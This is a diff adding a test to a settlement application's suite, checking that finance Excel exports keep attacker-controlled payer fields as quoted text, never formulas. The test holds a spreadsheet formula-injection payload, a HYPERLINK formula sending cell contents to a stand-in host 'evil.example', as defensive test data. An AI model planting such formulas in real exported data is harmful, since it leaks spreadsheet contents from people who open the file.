@@ -146,3 +146,17 @@ def test_api_lists_only_the_callers_deposits(client, data):
     assert statement["accounts"][0]["frozen"] == "50000.00" and statement["entries"][0]["amount"] == "50000.00"
     quote = client.get("/api/v1/settlement/fees/quote?amount=80000000&side=seller").json()
     assert quote["total"] == "162000.00" and len(quote["bands"]) == 3
+
+
+def test_finance_excel_exports_keep_a_hostile_payer_as_text(client, data):
+    # given a bank line whose payer name and remark are formulas (a member controls both)
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    f.import_rows([f.row(amount="9.00", payer=payload, remark="@SUM(1+1)")], actor=data["finance"], encoding="gbk")
+    client.force_login(data["finance"])
+    # when finance exports the exceptions queue
+    sheet = load_workbook(io.BytesIO(client.get("/settlement/finance/exceptions/?format=xlsx").content)).active
+    # then the cells are text, exactly as received, and never formulas
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in (payload, "@SUM(1+1)")]
+    assert {c.value for c in cells} >= {payload}
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
